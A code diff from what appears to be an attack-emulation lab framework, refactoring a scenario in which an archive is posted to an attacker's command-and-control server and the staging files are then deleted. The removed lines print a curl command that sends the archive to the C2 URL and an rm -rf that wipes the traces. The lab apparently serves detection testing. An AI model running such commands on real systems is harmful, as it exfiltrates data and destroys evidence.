@@ -24,6 +24,7 @@ from provarmor.lab.scenario import (
     SetupFile,
     StepSpec,
 )
+from provarmor.lab.scenarios.steps import delete, deletion_step, post_to_c2
 
 STEPS = (
     StepSpec(
@@ -52,11 +53,7 @@ STEPS = (
         summary="The archive is posted to the attacker's server.",
         techniques=(t.EXFIL_C2,),
     ),
-    StepSpec(
-        name="remove-traces",
-        summary="The staging directory and archive are deleted.",
-        techniques=(t.FILE_DELETION,),
-    ),
+    deletion_step("remove-traces", "The staging directory and archive are deleted."),
 )
 
 _BROWSER = '''#!{python}
@@ -170,11 +167,9 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="exfiltrate",
                 channel=Channel.SHELL,
-                command=f"curl -s --data-binary @{archive} {ctx.c2.url}/{ctx.names.token(6)}",
+                command=post_to_c2(ctx, f"@{archive}"),
             ),
-            Action(
-                step="remove-traces", channel=Channel.SHELL, command=f"rm -rf {stage} {archive}"
-            ),
+            delete("remove-traces", Channel.SHELL, stage, archive),
         ),
         artifacts=(stage, archive),
     )
